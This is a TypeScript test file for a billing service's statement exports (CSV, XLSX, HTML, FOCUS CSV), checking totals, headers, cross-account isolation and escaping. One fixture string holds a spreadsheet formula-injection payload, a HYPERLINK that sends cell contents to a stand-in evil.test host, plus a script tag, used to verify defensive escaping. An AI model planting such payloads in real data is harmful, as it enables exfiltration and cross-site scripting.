/** Statements and charges as files: complete, of the caller alone, and safe to open. */
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { plainEntry, writeEntries } from '../../../src/store/tables/ledger.ts';
import { focusColumns } from '../../../src/edge/http/money/focus-csv.ts';
import { csvLine } from '../../../src/edge/http/csv.ts';
import { startApi, type Account, type TestApi } from './harness.ts';

const HOUR_MS = 3_600_000;
const EVIL = '=HYPERLINK("https://evil.test/?x="&A1,"<script>alert(1)</script>")';

let api: TestApi;
let ann: Account;
let mallory: Account;
let month: string;

beforeAll(async () => {
  api = await startApi();
  [ann, mallory] = await Promise.all([api.newAccount(), api.newAccount()]);
  const { userId: accountId } = await ann.client.userInfo();
  // In the current month, whose deposit the fixture has made.
  const openedAtMs = Math.floor(Date.now() / HOUR_MS) * HOUR_MS;
  month = new Date(openedAtMs).toISOString().slice(0, 7);
  const untilMs = openedAtMs + HOUR_MS / 4;
  const of = { accountId, subjectId: 'notebook-evil', meter: 'compute' };
  await api.wired.store.write(async (tx) => {
    const { id: periodId } = await tx
      .insertInto('usagePeriod')
      .values({
        ...of,
        subjectName: EVIL,
        state: 'charged',
        regionId: 'here',
        typeId: 'type-1',
        priceMicros: 80_000,
        quantity: 1,
        unitMs: HOUR_MS,
        openedAtMs,
        closedAtMs: untilMs,
        openSeq: 1,
        closeSeq: 2,
        chargedUntilMs: untilMs,
        chargedMicros: 20_000,
        carry: 0,
        isCharging: 0,
        labels: '{"team":"red"}',
      })
      .returning('id')
      .executeTakeFirstOrThrow();
    const paid = { ...plainEntry, ...of, atMs: openedAtMs, kind: 'charge', toLedger: 'revenue', periodId };
    const time = { hourMs: openedAtMs, fromMs: openedAtMs, untilMs };
    await writeEntries(tx, [
      { ...paid, ...time, fromLedger: 'cash', amountMicros: 15_000 },
      { ...paid, ...time, fromLedger: 'voucher', grantId: 'g', amountMicros: 5_000 },
    ]);
  });
});
afterAll(() => api?.stop());

const get = (path: string, { token }: Pick<Account, 'token'>) => api.send(`/api${path}?month=${month}`, { token });

/** Cells by column, of lines without line breaks in cells. */
function cellsOf(text: string): Record<string, string>[] {
  const rows = text
    .trimEnd()
    .split('\r\n')
    .map((line) =>
      [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)].map(([, cell = '']) =>
        cell.replace(/^"|"$/g, '').replaceAll('""', '"'),
      ),
    );
  const [head = [], ...lines] = rows;
  return lines.map((cells) => Object.fromEntries(head.map((name, at) => [name, cells[at] ?? ''])));
}

test('the CSV has balances, payments and resources, whose amounts add up', async () => {
  const answer = await get('/billing/statement.csv', ann);
  expect(answer.headers).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    'content-disposition': `attachment; filename="statement-${month}.csv"`,
    'cache-control': 'no-store',
  });
  const rows = cellsOf(answer.text);
  const { client } = ann;
  const statement = await client.statement({ month });
  const resource = rows.filter(({ section }) => section === 'resource');
  expect(resource).toMatchObject([
    {
      resourceId: 'notebook-evil',
      name: `'${EVIL}`,
      chargedMs: '900000',
      quantity: '0.25',
      unit: 'hours',
      amount: '0.02',
    },
  ]);
  expect(statement.resources).toMatchObject([
    { instanceId: 'notebook-evil', name: EVIL, quantity: 0.25, amount: 0.02 },
  ]);
  expect(rows.find(({ section, kind }) => section === 'entry' && kind === 'deposit')?.['amount']).toBe(
    String(statement.entries[0]?.amount),
  );
  expect(rows.filter(({ section }) => section === 'closing').map(({ amount }) => Number(amount))).toEqual(
    statement.balances.map(({ closing }) => closing),
  );
});

test('the workbook has each part on a sheet, whose charges sum up, and formulas stay text', async () => {
  const statement = await ann.client.statement({ month });
  const response = await ann.client.statementXlsx({ month });
  expect([response.status, response.headers.get('content-disposition'), response.headers.get('content-type')]).toEqual([
    200,
    `attachment; filename="statement-${month}.xlsx"`,
    'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  ]);
  const parts = unzipSync(new Uint8Array(await response.arrayBuffer()));
  const sheetOf = (number: number): string[][] =>
    [...strFromU8(parts[`xl/worksheets/sheet${number}.xml`] ?? new Uint8Array()).matchAll(/<row>(.*?)<\/row>/gs)].map(
      ([, row = '']) =>
        [...row.matchAll(/<c[^>]*?(?:\/>|>(.*?)<\/c>)/gs)].map(([, cell = '']) => cell.replaceAll(/<[^>]*>/g, '')),
    );
  expect(sheetOf(1)).toContainEqual(['statementId', statement.statementId]);
  expect(sheetOf(1)).toContainEqual(['billed', String(statement.billed)]);
  const [head = [], ...charges] = sheetOf(5);
  const amounts = charges.map((cells) => Number(cells[head.indexOf('amount')]));
  expect(amounts.reduce((sum, amount) => sum + amount, 0)).toBeCloseTo(statement.charges, 9);
  for (const cells of charges) {
    const [quantity, price, amount] = ['quantity', 'price', 'amount'].map((name) => Number(cells[head.indexOf(name)]));
    expect((quantity ?? NaN) * (price ?? NaN)).toBeCloseTo(amount ?? NaN, 6);
  }
  expect(charges[0]?.[head.indexOf('name')]).toMatch(/^=HYPERLINK/);
  expect(strFromU8(parts['xl/worksheets/sheet5.xml'] ?? new Uint8Array())).not.toContain('<f');
});

test('the page to print has no script, and escapes what users wrote', async () => {
  const answer = await get('/billing/statement.html', ann);
  expect(answer.headers).toMatchObject({
    'content-type': 'text/html; charset=utf-8',
    'x-frame-options': 'DENY',
    'content-security-policy': expect.stringMatching(/^default-src 'none'; style-src 'sha256-/),
  });
  expect(answer.text).not.toContain('<script');
  expect(answer.text).toContain('&#60;script&#62;');
  expect(answer.text).toContain('@page { size: A4');
  expect(answer.text).toContain('<td class="number">0.020000</td>');
  expect(answer.text.trimEnd().endsWith('</html>')).toBe(true);
});

test('FOCUS rows have the columns of version 1.2; a voucher takes what it paid off the bill', async () => {
  const { text } = await get('/billing/focus.csv', ann);
  expect(text.split('\r\n')[0]).toBe(focusColumns.join(','));
  const rows = cellsOf(text);
  const { statementId, billed } = await ann.client.statement({ month });
  expect(new Set(rows.map(({ InvoiceId }) => InvoiceId))).toEqual(new Set([statementId]));
  expect(rows.reduce((sum, { BilledCost }) => sum + Number(BilledCost), 0)).toBeCloseTo(billed, 9);
  expect(rows).toMatchObject([
    {
      BilledCost: '0.015',
      ListCost: '0.015',
      PricingQuantity: '0.1875',
      PricingUnit: 'Hours',
      ChargeCategory: 'Usage',
      ServiceCategory: 'Compute',
      ResourceName: `'${EVIL}`,
      Tags: '{"team":"red"}',
      x_PaidFrom: 'cash',
      BillingPeriodStart: `${month}-01T00:00:00Z`,
    },
    { BilledCost: '0.005', ListCost: '0.005', PricingQuantity: '0.0625', x_PaidFrom: 'voucher' },
    {
      ChargeCategory: 'Credit',
      BilledCost: '-0.005',
      EffectiveCost: '-0.005',
      PricingQuantity: '',
      x_PaidFrom: 'voucher',
    },
  ]);
});

test('another account has none of it; administrators have the charges of all accounts', async () => {
  for (const file of ['/billing/statement.csv', '/billing/statement.html', '/billing/focus.csv']) {
    const answer = await get(file, mallory);
    expect([file, answer.status, answer.text.includes('notebook-evil')]).toEqual([file, 200, false]);
  }
  const refused = await get('/admin/billing/focus.csv', mallory);
  expect(refused.status).toBe(403);
  const all = cellsOf((await get('/admin/billing/focus.csv', api.admin)).text);
  expect(all.map(({ BillingAccountName }) => BillingAccountName)).toEqual(Array(3).fill(ann.username));
});

test.each([
  ['', 'field "month" is not set'],
  ['?month=2026-13', 'must be a month such as "2026-11"'],
  ['?month=2099-01', 'which has not begun'],
  ['?month=2026-11&timeZone=Mars', 'must be an IANA time zone'],
])('a statement of %s is refused with what works', async (query, message) => {
  const answer = await api.send(`/api/billing/statement.csv${query}`, { token: ann.token });
  expect([answer.status, answer.text]).toEqual([400, expect.stringContaining(message.replaceAll('"', '\\"'))]);
});

test('cells that could be formulas begin with an apostrophe; numbers stay numbers', () => {
  for (const text of ['=1', '+1', '-1', '@x', '\t=1', ' =1', '\r=1', '|x', '%x', '＝1'])
    expect(csvLine([text])).toMatch(/^"?'/);
  expect(csvLine([-1.5, null, 'a"b', 'x,y', 'plain'])).toBe('-1.5,,"a""b","x,y",plain\r\n');
});
